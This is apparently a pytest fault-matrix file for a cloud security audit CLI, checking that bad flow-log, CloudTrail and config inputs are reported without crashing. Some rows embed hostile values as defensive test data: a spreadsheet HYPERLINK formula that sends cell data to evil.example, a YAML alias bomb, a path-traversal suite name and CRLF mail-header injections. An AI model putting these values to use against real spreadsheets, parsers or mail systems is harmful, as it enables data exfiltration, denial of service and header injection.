"""The fault matrix: one row per fault or bad input, each run through ``auditor run`` beside the good inputs of
tests/faults/project.py. Every row asserts that the run finished (no traceback), its exit code, whether a report
was written, the data-quality counter and message the fault leaves, and that the good records beside it were
all still counted (and still make their findings).

Rows that damage the config, not the data, expect exit 2, a message naming the file and line, and no report.
"""

from __future__ import annotations

import csv
import errno
import gzip
import json
import os
import socket
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import jsonschema
import pytest

from auditor import output
from auditor.engines.sources import files as discovery
from auditor.staging import StagingLock
from tests.faults.project import (
    FLOW_DAY,
    FLOW_RECORDS,
    HEADER,
    RDP_EVENT,
    REJECTED,
    SCANNER,
    TRAIL_DAY,
    TRAIL_RECORDS,
    Run,
    event,
    flow_lines,
    good_record,
    make_project,
    run_cli,
    trail_events,
)
from tests.support.trail import ingress

SCHEMA = json.loads((Path(output.__file__).parent / "schemas" / "findings.schema.json").read_text())

# --------------------------------------------------------------------------------------------- the rows


@dataclass(frozen=True)
class Row:
    id: str
    make: Callable[[Path], None]  # adds the fault to the project under the given root
    exit_code: int
    check: Callable[[Run], None]  # the data-quality counter and message (or the error message)
    args: tuple[str, ...] = ()
    report: bool = True  # findings.json and report.html are written
    flows: bool = True  # the good flow logs are there (their records must all be counted)
    trail: bool = True  # the good CloudTrail file is there
    patch: Callable[[pytest.MonkeyPatch, Path], None] | None = None
    env: dict[str, str] = field(default_factory=dict)  # run in a child process with this environment
    formats: str = "json,csv,html"


def flow_file(root: Path, name: str, data: bytes, day: str = "12") -> Path:
    path = root / "flows" / FLOW_DAY / day / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


def text(*lines: str, eol: str = "\n") -> bytes:
    return "".join(line + eol for line in lines).encode()


EXTRA = [good_record(dstport=2000 + i, start="2026-11-12T03:00:00Z") for i in range(3)]  # 3 more rejects
EXTRA_TEXT = text(HEADER, *flow_lines(*EXTRA))
BAD = "flows/" + FLOW_DAY + "/12/"


def gz(data: bytes) -> bytes:
    return gzip.compress(data, mtime=0)


def truncated(root: Path) -> None:
    whole = gz(text(HEADER, *flow_lines(*[good_record(dstport=3000 + i % 500, srcport=i,
                                                      start="2026-11-12T03:00:00Z") for i in range(4000)])))
    flow_file(root, "cut.log.gz", whole[: len(whole) // 2])


def checked_truncated(run: Run) -> None:
    entry = run.file(BAD + "cut.log.gz")
    assert entry["error"].startswith("truncated gzip stream")
    assert 0 < entry["records"] < 4000 and entry["malformed"] <= 1  # the records before the cut, counted as such
    assert any("could not be read, or not to the end" in w and "cut.log.gz" in w for w in run.warnings)
    assert run.checks["top_rejected_sources"]["rows"][0]["rejected_flows"] == REJECTED + entry["records"]


def unreadable_error(run: Run, name: str, reason: str) -> None:
    entry = run.file(BAD + name)
    assert reason in entry["error"], entry
    assert entry["records"] == 0
    assert any(name in w for w in run.warnings), run.warnings
    assert run.doc["data_quality"]["counters"]["inputs_unreadable"] == 1
    assert "could not be read" in (run.out / "report.html").read_text()


def unopenable(root: Path) -> None:
    """A file this process cannot read: no read permission; as root (which may read anything), a link to
    /proc/self/mem, a regular file whose first bytes (address 0, never mapped) fail with an I/O error."""
    path = root / "flows" / FLOW_DAY / "12" / "locked.log.gz"
    path.parent.mkdir(parents=True, exist_ok=True)
    if os.geteuid() != 0:
        path.write_bytes(gz(EXTRA_TEXT))
        path.chmod(0)
    else:
        path.symlink_to("/proc/self/mem")


def special_files(root: Path) -> None:
    folder = root / "flows" / FLOW_DAY / "12"
    folder.mkdir(parents=True)
    os.mkfifo(folder / "pipe.log")  # reading it would wait for a writer for ever
    here = os.getcwd()
    os.chdir(folder)  # a socket's path must fit in 108 bytes
    try:
        sock = socket.socket(socket.AF_UNIX)
        sock.bind("socket.log.gz")
        sock.close()
    finally:
        os.chdir(here)


def checked_special(run: Run) -> None:
    for name in ("pipe.log", "socket.log.gz"):
        assert run.file(BAD + name)["error"] == "not a regular file (a FIFO, socket or device); it was not read"


def hidden_folder(root: Path) -> None:
    folder = root / "flows" / FLOW_DAY / "12"
    flow_file(root, "a.log", EXTRA_TEXT)
    flow_file(root, "b.log", EXTRA_TEXT)
    folder.chmod(0)


def deny_listing(monkeypatch: pytest.MonkeyPatch, root: Path) -> None:
    """Root lists any folder whatever its mode: refuse the listing where the walk asks for it."""
    if os.geteuid() != 0:
        return
    folder = str(root / "flows" / FLOW_DAY / "12")
    real = os.scandir

    def scandir(path: str = ".") -> os.ScandirIterator:  # type: ignore[type-arg]
        if isinstance(path, (str, os.PathLike)) and os.fspath(path) == folder:
            raise PermissionError(errno.EACCES, "Permission denied", folder)
        return real(path)
    monkeypatch.setattr(discovery.os, "scandir", scandir)


def full_disk(monkeypatch: pytest.MonkeyPatch, root: Path) -> None:
    """A disk with 40 kB free: findings.json (about 28 kB) and the CSVs fit, the HTML (about 80 kB) does not."""
    free = [40_000]
    real = output.write_file

    def write_file(path: Path, data: bytes) -> None:
        if len(data) > free[0]:
            path.write_bytes(data[: free[0]])  # what a full disk leaves: a short file
            free[0] = 0
            raise OSError(errno.ENOSPC, "No space left on device", str(path))
        free[0] -= len(data)
        real(path, data)
    monkeypatch.setattr(output, "write_file", write_file)


def checked_full_disk(run: Run) -> None:
    assert (run.out / "findings.json").is_file() and (run.out / "results" / "sg_changes.csv").is_file()
    assert not (run.out / "report.html").exists()
    assert "could not write report.html: not written: No space left on device" in run.output
    assert not list(run.out.glob(".auditor-staging-*"))


def full_state_disk(monkeypatch: pytest.MonkeyPatch, root: Path) -> None:
    """The state folder's disk is full: the run record cannot be written, the report can."""
    real = Path.write_text

    def write_text(self: Path, data: str, *args: object, **kwargs: object) -> int:
        if self.name.endswith(".json.tmp") and self.parent.name == "runs":
            real(self, data[:100])
            raise OSError(errno.ENOSPC, "No space left on device", str(self))
        return real(self, data, *args, **kwargs)
    monkeypatch.setattr(Path, "write_text", write_text)


def checked_full_state_disk(run: Run) -> None:
    assert "the run record in" in run.output and "not written: No space left on device" in run.output
    assert list((run.root / ".auditor" / "runs").iterdir()) == []  # no half record left behind


def stale_staging(root: Path) -> None:
    out = root / "out"
    for name, age in (("old", 7200), ("fresh", 60), ("held", 7200)):
        folder = out / f".auditor-staging-{name}"
        folder.mkdir(parents=True)
        (folder / "findings.json").write_text("{}")
        os.utime(folder, (time.time() - age, time.time() - age))
    _HELD.append(StagingLock(out / ".auditor-staging-held"))  # a run that is still going


_HELD: list[StagingLock] = []


def checked_stale(run: Run) -> None:
    names = {p.name for p in run.out.iterdir()}
    assert ".auditor-staging-old" not in names
    assert {".auditor-staging-fresh", ".auditor-staging-held"} <= names
    while _HELD:
        _HELD.pop().release()


def trail_file(root: Path, name: str, data: bytes) -> None:
    path = root / "trail" / TRAIL_DAY / "13" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)


def trail_json(*events: dict) -> bytes:
    return json.dumps({"Records": list(events)}).encode()


def config_edit(old: str, new: str) -> Callable[[Path], None]:
    def make(root: Path) -> None:
        path = root / "config.yaml"
        path.write_text(path.read_text().replace(old, new, 1))
    return make


def config_append(extra: str) -> Callable[[Path], None]:
    def make(root: Path) -> None:
        with open(root / "config.yaml", "a") as fh:
            fh.write(extra)
    return make


def config_error(*parts: str) -> Callable[[Run], None]:
    def check(run: Run) -> None:
        for part in parts:
            assert part in run.output, run.output
    return check


def ct_entry(run: Run, name: str) -> dict:
    return run.file(f"trail/{TRAIL_DAY}/13/{name}")


def no_data(run: Run) -> None:
    checks = run.checks
    for check_id in ("top_rejected_sources", "exposed_well_known_ports", "unused_sg_rules"):
        assert checks[check_id]["status"] == "no_data" and checks[check_id]["no_data_sources"] == ["flow_logs"]
    # An absence of evidence is no finding: no rule is called unused...
    assert checks["unused_sg_rules"]["rows"] == [] and checks["unused_sg_rules"]["findings"] == []
    # ...but the world-open SSH rule is a configuration fact, reported as one.
    (exposed,) = checks["exposed_well_known_ports"]["findings"]
    assert exposed["title"].endswith("(no flow evidence in the window)") and exposed["dstport"] == 22
    assert checks["sg_changes"]["status"] == "fail"
    html = (run.out / "report.html").read_text()
    assert html.index("No data:") < html.index("Executive summary") < html.index("callout-no-data\" id=\"no-data\"")
    assert "3 checks read no usable record" in html
    assert "check top_rejected_sources has no data: The flow logs yielded no usable record" in run.output
    said = "The flow logs yielded no usable record in the window"
    assert checks["top_rejected_sources"]["notes"][0] == f"{said}, so it cannot say pass."
    assert checks["unused_sg_rules"]["notes"][0] == (f"{said}. Its verdicts would rest on an absence of evidence, "
                                                     "so it gives none.")
    assert checks["exposed_well_known_ports"]["notes"][0].endswith(
        "configuration facts from its other sources, each finding marked 'no flow evidence in the window'.")


def all_malformed(root: Path) -> None:
    (root / "flows").mkdir(exist_ok=True)
    flow_file(root, "wrong.log", text("this is not a flow log", "nor is this", "<html>404</html>"))


def deep_json(root: Path) -> None:
    trail_file(root, "deep.json", b"[" * 200_000 + b"]" * 200_000)


def odd_times(root: Path) -> None:
    trail_file(root, "times.json", trail_json(
        event("AuthorizeSecurityGroupIngress", ingress("sg-web", "tcp", 5432, 5432, "0.0.0.0/0"),
              time="2026-11-13T12:00:00,5Z", event_id="comma"),
        event("CreateSecurityGroup", {"groupName": "spaced"}, {"groupId": "sg-sp"}, time="2026-11-13T12:00:00 Z",
              event_id="spaced")))


def checked_odd_times(run: Run) -> None:
    rows = {r["event_id"]: r for r in run.checks["sg_changes"]["rows"]}
    # Stored in one canonical UTC form, which the SQL cast reads (it rejected ",5" and " Z").
    assert rows["comma"]["event_time"] == "2026-11-13T12:00:00.5Z"
    assert rows["spaced"]["event_time"] == "2026-11-13T12:00:00Z"
    assert ct_entry(run, "times.json")["records"] == 2 and run.total("malformed") == 0


def bad_request(root: Path) -> None:
    trail_file(root, "odd.json", trail_json(
        event("ModifyNetworkInterfaceAttribute", "groupSet=sg-1", time="2026-11-13T10:00:00Z", event_id="odd-mnia"),
        event("CreateSecurityGroup", {"groupName": "x"}, {"groupId": "sg-x"}, time="2026-11-13T11:00:00Z",
              event_id="fine")))


def checked_bad_request(run: Run) -> None:
    entry = ct_entry(run, "odd.json")
    assert (entry["records"], entry["invalid"]) == (1, 1)
    assert entry["notes"] == ["event odd-mnia (ModifyNetworkInterfaceAttribute) left out: requestParameters is not a "
                              "JSON object"]
    assert any("1 record in 1 file held values no log holds" in w for w in run.warnings)
    assert "fine" in {r["event_id"] for r in run.checks["sg_changes"]["rows"]}


def broken_network_acls(root: Path) -> None:
    config_edit("sg_changes: {}", "sg_changes: {}\n  nacl_changes: {}")(root)
    nacl = event("DeleteNetworkAclEntry", {"networkAclId": "acl-1", "ruleNumber": 90, "egress": False},
                 time="2026-11-13T10:00:00Z", event_id="nacl-delete")
    trail_file(root, "nacl.json", trail_json(nacl))
    (root / "inventory" / "111122223333" / "us-east-1" / "describe-network-acls.json").write_bytes(b'{"NetworkAcls": [')


def checked_broken_network_acls(run: Run) -> None:
    entry = run.file("inventory/111122223333/us-east-1/describe-network-acls.json")
    assert (entry["records"], entry["malformed"]) == (0, 1)
    assert any("describe-network-acls.json: not readable JSON" in w for w in run.warnings)
    (row,) = run.checks["nacl_changes"]["rows"]
    assert (row["event_id"], row["previous_entry"]) == ("nacl-delete", "previous entry unknown")
    assert RDP_EVENT in {r["event_id"] for r in run.checks["sg_changes"]["rows"]}  # the rest of the inventory counts
    assert run.checks["unused_sg_rules"]["status"] != "error"


def formula(root: Path) -> None:
    trail_file(root, "formula.json", trail_json(
        event("CreateSecurityGroup", {"groupName": "f"}, {"groupId": "sg-f"}, time="2026-11-13T11:00:00Z",
              event_id="formula", user_agent="=HYPERLINK(\"http://evil.example/\"&A1,\"x\")")))


def checked_formula(run: Run) -> None:
    with open(run.out / "results" / "sg_changes.csv", newline="") as fh:
        rows = {r["event_id"]: r for r in csv.DictReader(fh)}
    assert rows["formula"]["user_agent"] == "'=HYPERLINK(\"http://evil.example/\"&A1,\"x\")"
    # Numbers are written bare: a numeric column stays numeric.
    lines = (run.out / "results" / "top_rejected_sources.csv").read_text().splitlines()
    assert lines[1].startswith(f'"{SCANNER}",{REJECTED},')


def out_of_range(root: Path) -> None:
    bad = [good_record(dstport=70000), good_record(packets=-5), good_record(start="2026-11-12T05:00:00Z", end=1),
           good_record(srcaddr="not-an-ip")]
    flow_file(root, "range.log", text(HEADER, *flow_lines(*bad, *EXTRA)))


def checked_out_of_range(run: Run) -> None:
    entry = run.file(BAD + "range.log")
    assert (entry["records"], entry["invalid"], entry["malformed"]) == (3, 4, 0)
    assert any("4 records in 1 file held values no log holds" in w for w in run.warnings)
    assert run.doc["data_quality"]["counters"]["records_invalid"] == 4
    assert run.checks["top_rejected_sources"]["rows"][0]["rejected_flows"] == REJECTED + 3


def extra_counted(name: str, records: int, **classes: int) -> Callable[[Run], None]:
    def check(run: Run) -> None:
        entry = run.file(BAD + name)
        assert entry["records"] == records, entry
        for key, value in classes.items():
            assert entry[key] == value, (key, entry)
        assert run.checks["top_rejected_sources"]["rows"][0]["rejected_flows"] == REJECTED + records
    return check


def one_malformed(name: str) -> Callable[[Run], None]:
    def check(run: Run) -> None:
        extra_counted(name, 3, malformed=1)(run)
        assert any("1 malformed line in 1 file" in w for w in run.warnings)
        assert run.doc["data_quality"]["counters"]["lines_malformed"] == 1
    return check


def huge_line(root: Path) -> None:
    flow_file(root, "huge.log", text(HEADER, "2 " + "x" * (20 * 2**20), *flow_lines(*EXTRA)))


def symlink_loop(root: Path) -> None:
    flow_file(root, "a.log", EXTRA_TEXT)
    (root / "flows" / FLOW_DAY / "12" / "again").symlink_to("..")


def checked_loop(run: Run) -> None:
    (entry,) = [f for f in run.files if f["path"].endswith("/12/again")]
    assert entry["error"].startswith("symbolic link loop: it leads back to")
    extra_counted("a.log", 3)(run)


def dangling(root: Path) -> None:
    (root / "flows" / FLOW_DAY / "12").mkdir(parents=True)
    (root / "flows" / FLOW_DAY / "12" / "gone.log.gz").symlink_to(root / "nowhere.log.gz")
    (root / "trail" / TRAIL_DAY / "13").mkdir(parents=True)
    (root / "trail" / TRAIL_DAY / "13" / "gone.json.gz").symlink_to(root / "nowhere.json.gz")
    (root / "trail" / TRAIL_DAY / "13" / "loop").symlink_to("..")


def checked_dangling(run: Run) -> None:
    assert run.file(BAD + "gone.log.gz")["error"] == "broken symbolic link: No such file or directory"
    assert ct_entry(run, "gone.json.gz")["error"] == "broken symbolic link: No such file or directory"
    assert ct_entry(run, "loop")["error"].startswith("symbolic link loop")
    assert len([w for w in run.warnings if "3 input files or folders could not be read" in w]) == 1


def disk_folder(root: Path) -> None:
    (root / "flows" / FLOW_DAY / "12" / "x.log.gz").mkdir(parents=True)
    flow_file(root, "a.log", EXTRA_TEXT)


def missing_fields(root: Path) -> None:
    line = flow_lines(good_record())[0]
    flow_file(root, "fields.log", text(HEADER, line + " extra-field", " ".join(line.split()[:-3]),
                                       *flow_lines(*EXTRA)))


def trail_events_file(root: Path) -> None:
    no_time = event("CreateSecurityGroup", {"groupName": "t"}, {"groupId": "sg-t"}, event_id="no-time")
    del no_time["eventTime"]
    no_id = event("CreateSecurityGroup", {"groupName": "i"}, {"groupId": "sg-i"}, time="2026-11-13T01:00:00Z")
    del no_id["eventID"]
    no_request = event("DeleteSecurityGroup", None, time="2026-11-13T02:00:00Z", event_id="no-request")
    del no_request["requestParameters"]
    twice = event("CreateSecurityGroup", {"groupName": "d"}, {"groupId": "sg-d"}, time="2026-11-13T03:00:00Z",
                  event_id="twice")
    trail_file(root, "shapes.json", trail_json(no_time, no_id, no_request, twice, twice, trail_events()[0]))


def checked_trail_events(run: Run) -> None:
    entry = ct_entry(run, "shapes.json")
    # No eventTime: malformed. No eventID: kept, never a duplicate. No requestParameters: kept. The same
    # eventID twice, and the good file's RDP event delivered again (an organization trail): duplicates.
    assert (entry["records"], entry["malformed"], entry["duplicates"]) == (3, 1, 2)
    events = [r["event_name"] for r in run.checks["sg_changes"]["rows"]]
    assert events.count("DeleteSecurityGroup") == 1 and len(events) == TRAIL_RECORDS + 3


def checked_unlisted(run: Run) -> None:
    assert run.file(BAD.rstrip("/"))["error"] == "cannot list the folder: Permission denied"
    assert any("could not be read" in w and BAD.rstrip("/") in w for w in run.warnings)


def checked_wrong_place(run: Run) -> None:
    no_data(run)
    assert run.file(BAD + "wrong.log")["malformed"] == 3


def checked_header_only(run: Run) -> None:
    entry = run.file(BAD + "header.log")
    assert (entry["headers"], entry["records"], entry["error"]) == (1, 0, None)


def checked_disk_folder(run: Run) -> None:
    extra_counted("a.log", 3)(run)
    assert not any(f["path"].endswith("x.log.gz") for f in run.files)


def timezone_event(root: Path) -> None:
    # Written without a zone: UTC. Cast in Kiritimati's zone (UTC+14) it would be 2026-11-08T15:00Z, before the
    # window, and the event would vanish from sg_changes.
    trail_file(root, "zoneless.json", trail_json(
        event("CreateSecurityGroup", {"groupName": "z"}, {"groupId": "sg-z"}, time="2026-11-09T05:00:00",
              event_id="zoneless")))


def checked_timezone(run: Run) -> None:
    rows = {r["event_id"]: r for r in run.checks["sg_changes"]["rows"]}
    assert rows["zoneless"]["event_time"] == "2026-11-09T05:00:00Z"
    assert run.doc["run"]["since"] == "2026-11-09T00:00:00Z"


ALIAS_BOMB = "".join(f"  b{i}: &b{i} [{', '.join([f'*b{i - 1}' if i else '1'] * 10)}]\n" for i in range(7))

ROWS = (
    # -- defect 1: one bad flow-log file never stops the run
    Row("truncated gzip keeps the records before the cut", truncated, 0, checked_truncated),
    Row("zero-byte .log.gz", lambda r: flow_file(r, "zero.log.gz", b""), 0,
        lambda run: unreadable_error(run, "zero.log.gz", "empty file (0 bytes): not a gzip stream")),
    Row("non-gzip .log.gz", lambda r: flow_file(r, "plain.log.gz", EXTRA_TEXT), 0,
        lambda run: unreadable_error(run, "plain.log.gz", "not a gzip stream, although its name ends in .gz")),
    Row("junk .parquet", lambda r: flow_file(r, "junk.parquet", b"PAR1 not really"), 0,
        lambda run: unreadable_error(run, "junk.parquet", "not a readable Parquet file")),
    Row("a file that cannot be opened", unopenable, 0,
        lambda run: unreadable_error(run, "locked.log.gz", "cannot be read: ")),
    Row("a FIFO and a socket named like flow logs", special_files, 0, checked_special),
    Row("--strict turns an unreadable file into exit 3", lambda r: flow_file(r, "zero.log.gz", b""), 3,
        lambda run: unreadable_error(run, "zero.log.gz", "empty file"), args=("--strict",)),
    # -- defect 2: an unreadable subfolder is a data-quality error and a warning
    Row("an unreadable subfolder", hidden_folder, 0, checked_unlisted, patch=deny_listing),
    # -- defect 3: symlinks are followed once
    Row("a symbolic link loop", symlink_loop, 0, checked_loop),
    Row("dangling symbolic links and a loop under CloudTrail", dangling, 0, checked_dangling),
    # -- defect 4: deep JSON is malformed
    Row("CloudTrail of 200,000 nested brackets", deep_json, 0,
        lambda run: ct_entry(run, "deep.json")["malformed"] == 1 or pytest.fail("not malformed")),
    # -- defect 5: one odd event never disables sg_changes
    Row("event times with a comma fraction and a spaced Z", odd_times, 0, checked_odd_times),
    Row("non-JSON requestParameters", bad_request, 0, checked_bad_request),
    # -- defect 6: CSV formula injection
    Row("a user agent that is a formula", formula, 0, checked_formula),
    # -- defect 7: no data never says pass
    Row("an empty flow-log folder", lambda r: None, 3, no_data, flows=False),
    Row("flow logs pointed at the wrong place (every line malformed)", all_malformed, 3, checked_wrong_place,
        flows=False),
    # -- defect 8: results do not depend on the host's time zone
    Row("a zone-less eventTime under TZ=Pacific/Kiritimati", timezone_event, 0, checked_timezone,
        env={"TZ": "Pacific/Kiritimati"}),
    # -- defect 9: YAML alias bomb and size
    Row("a YAML alias bomb", config_append("aliases:\n" + ALIAS_BOMB), 2,
        config_error("config.yaml:", "expands to more than 100,000 values"), report=False),
    Row("a config over 1 MB", config_append("# " + "x" * 1_100_000 + "\n"), 2,
        config_error("config.yaml: the config file is", "at most 1,000,000 bytes"), report=False),
    # -- defect 10: bad values are exit 2 with a message
    # Logs Insights sources: a log group's own format is validated where it is written (issue 23).
    Row("a log group's format with an unknown field", config_edit(
        "flow_logs: flows", 'flow_logs: {engine: insights, log_groups: [/vpc/flow, '
                            '{name: /vpc/flow-v5, format: "${version} ${vpc-idd}"}]}'), 2,
        config_error("config.yaml:2:", "vpc-idd", "did you mean 'vpc-id'"), report=False),
    Row("a log group listed twice", config_edit(
        "flow_logs: flows", "flow_logs: {engine: insights, log_groups: [/vpc/flow, {name: /vpc/flow}]}"), 2,
        config_error("config.yaml:2:", "log group '/vpc/flow' is listed twice"), report=False),
    Row("lookback: banana", config_edit("unused_sg_rules: {}", "unused_sg_rules: {lookback: banana}"), 2,
        config_error("config.yaml:8:31:", "'banana' is not a duration"), report=False),
    Row("duckdb.memory_limit: banana", config_append("duckdb: {memory_limit: banana}\n"), 2,
        config_error("duckdb.memory_limit: 'banana' is not a memory size"), report=False),
    Row("--since 0001-01-01 --until 9999-12-31", lambda r: None, 2,
        config_error("--since 0001-01-01 is outside 1970-01-01..3000-01-01"), report=False,
        args=("--since", "0001-01-01", "--until", "9999-12-31")),
    Row("--since 100000000d", lambda r: None, 2, config_error("'100000000d' is longer than 100 years"),
        report=False, args=("--since", "100000000d", "--until", "2026-11-16")),
    Row("delivery_lag: 99999999999d", config_append("delivery_lag: 99999999999d\n"), 2,
        config_error("config.yaml:", "delivery_lag: '99999999999d' is longer than 100 years"), report=False),
    Row("a config that is not UTF-8", lambda r: (r / "config.yaml").write_bytes(
        (r / "config.yaml").read_bytes() + b"# caf\xe9\n"), 2,
        config_error("config.yaml:10:6: not UTF-8 text"), report=False),
    Row("an unwritable state_dir", config_append("state_dir: config.yaml/state\n"), 2,
        config_error("state_dir:", "is not a folder"), report=False),
    Row("an unwritable temp_directory", config_append("duckdb: {temp_directory: config.yaml/spill}\n"), 2,
        config_error("duckdb.temp_directory:", "is not a folder"), report=False),
    Row("a missing templates_dir", config_append("templates_dir: no-such-templates\n"), 2,
        config_error("templates_dir:", "is not a folder"), report=False),
    # -- defect 11: a full disk keeps what fits, smallest and most important first
    Row("a full disk", lambda r: None, 5, checked_full_disk, report=False, patch=full_disk),
    Row("a full disk under the state folder", lambda r: None, 5, checked_full_state_disk, patch=full_state_disk),
    # -- defect 12: duplicate YAML keys
    Row("an exception whose match repeats dstport", config_append(
        "exceptions:\n  - check: exposed_well_known_ports\n    match: {dstport: 22, dstport: 3389}\n"
        "    owner: alice\n    reason: bastion\n    expires: 2099-01-01\n"), 2,
        config_error("config.yaml:12:26:", "duplicate key 'dstport' (first at line 12, column 13)"), report=False),
    # -- defect 13: out-of-range values are their own class
    Row("ports over 65535, negative counts, start after end, a non-IP address", out_of_range, 0,
        checked_out_of_range),
    Row("--strict turns invalid records into exit 3", out_of_range, 3, checked_out_of_range, args=("--strict",)),
    # -- defect 14: stale staging folders
    Row("a killed run's staging folder", stale_staging, 0, checked_stale),
    # -- the extra list: most of these worked, and keep working
    Row("CRLF line ends", lambda r: flow_file(r, "crlf.log", text(HEADER, *flow_lines(*EXTRA), eol="\r\n")), 0,
        extra_counted("crlf.log", 3, malformed=0, headers=1)),
    Row("a header-only file", lambda r: flow_file(r, "header.log", text(HEADER)), 0, checked_header_only),
    Row("extra and missing fields", missing_fields, 0, extra_counted("fields.log", 3, malformed=2)),
    Row("non-UTF-8 bytes", lambda r: flow_file(r, "latin.log", EXTRA_TEXT + b"2 111122223333 eni-\xe9 x\n"), 0,
        one_malformed("latin.log")),
    Row("a 20 MB single line", huge_line, 0, one_malformed("huge.log")),
    Row("a folder named x.log.gz", disk_folder, 0, checked_disk_folder),
    Row('{"Records": null}', lambda r: trail_file(r, "null.json", b'{"Records": null}'), 0,
        lambda run: ct_entry(run, "null.json")["malformed"] == 1 or pytest.fail("not malformed")),
    Row("events missing eventTime, eventID or requestParameters, and duplicate event IDs", trail_events_file, 0,
        checked_trail_events),
    Row("--strict turns a malformed line into exit 3", lambda r: flow_file(r, "latin.log", EXTRA_TEXT + b"\xff\n"), 3,
        one_malformed("latin.log"), args=("--strict",)),
    Row("a truncated describe-network-acls.json", broken_network_acls, 0, checked_broken_network_acls),
    # -- issue 18: what goes into file names and mail headers is validated in the schema
    Row("a suite named ../../escaped", config_append('suites:\n  "../../escaped": {schedule: "0 6 * * mon"}\n'), 2,
        config_error("config.yaml:", "suite name '../../escaped': use a slug"), report=False),
    Row("a suite name with CRLF", config_append('suites:\n  "weekly\\r\\nBcc: x@example.com": {schedule: "0 6 * * mon"}\n'),
        2, config_error("config.yaml:", "use a slug of letters"), report=False),
    Row("a recipient that ends in a newline", config_append(
        'suites:\n  weekly: {schedule: "0 6 * * mon", recipients: ["secops@example.com\\n"]}\n'), 2,
        config_error("config.yaml:", "recipient 'secops@example.com\\n' is not an e-mail address"), report=False),
    Row("a sender that ends in a newline", config_append(
        'email: {sender: "auditor@example.com\\n", smtp: {host: localhost}}\n'), 2,
        config_error("config.yaml:", "sender 'auditor@example.com\\n' is not an e-mail address"), report=False),
    Row("an email.smtp.ca_file that is not there", config_append(
        "email: {smtp: {host: localhost, ca_file: no-such-ca.pem}}\n"), 2,
        config_error("config.yaml:", "email.smtp.ca_file:", "no-such-ca.pem is not a readable file"), report=False),
    Row("a presigned link longer than SigV4 allows", config_append(
        "email: {pdf_link_expiry: 30d, smtp: {host: localhost}}\n"), 2,
        config_error("config.yaml:", "a presigned S3 link lives from 1m to 7d"), report=False),
)


# ---------------------------------------------------------------------------------------------- the test


@pytest.mark.parametrize("row", ROWS, ids=[r.id for r in ROWS])
def test_fault(row: Row, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    root = tmp_path / "project"
    config = make_project(root, flows=row.flows)
    row.make(root)
    if row.patch is not None:
        row.patch(monkeypatch, root)
    try:
        run = run_cli(root, config, *row.args, formats=row.formats, env=row.env, in_process=not row.env)
    finally:
        for folder in root.rglob("*"):  # let pytest clean up what a row locked away
            if folder.is_dir() and not folder.is_symlink():
                folder.chmod(0o755)
    # The run finished: an exit code of the table, never a traceback.
    assert run.exit_code == row.exit_code, run.output
    assert "Traceback" not in run.output and "internal error" not in run.output, run.output
    # A report was written (config errors stop before anything runs, and write nothing).
    assert (run.out / "findings.json").is_file() is (row.report or row.exit_code == 5), run.output
    assert (run.out / "report.html").is_file() is row.report
    if run.doc is None:
        row.check(run)
        return
    jsonschema.validate(run.doc, SCHEMA)  # no_data, invalid counts and file errors are part of the contract
    # The good records beside the fault were all counted, and still make their findings.
    if row.flows:
        assert run.records_under("flows/" + FLOW_DAY + "/10") + run.records_under("flows/" + FLOW_DAY + "/11") \
            == FLOW_RECORDS
        assert run.checks["top_rejected_sources"]["rows"][0]["srcaddr"] == SCANNER
        assert run.checks["top_rejected_sources"]["rows"][0]["rejected_flows"] >= REJECTED
    if row.trail:
        assert run.records_under("trail/" + TRAIL_DAY + "/10") == TRAIL_RECORDS
        assert RDP_EVENT in {f["event_id"] for f in run.checks["sg_changes"]["findings"]}
    # The data-quality counter and message the fault leaves.
    row.check(run)
